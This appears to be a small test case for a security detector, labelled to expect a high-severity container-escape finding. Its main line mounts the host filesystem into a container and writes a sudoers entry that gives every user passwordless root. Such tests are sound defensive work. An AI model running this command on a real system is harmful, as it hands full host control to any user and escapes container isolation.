# about: everyone may become root of the host
# expect: container_escape high
# where: container
# needs: docker
mkdir -p /etc/sudoers.d
container -v /:/host -- sh -c 'echo "ALL ALL=(ALL) NOPASSWD:ALL" >/host/etc/sudoers.d/90-all'
test -s /etc/sudoers.d/90-all
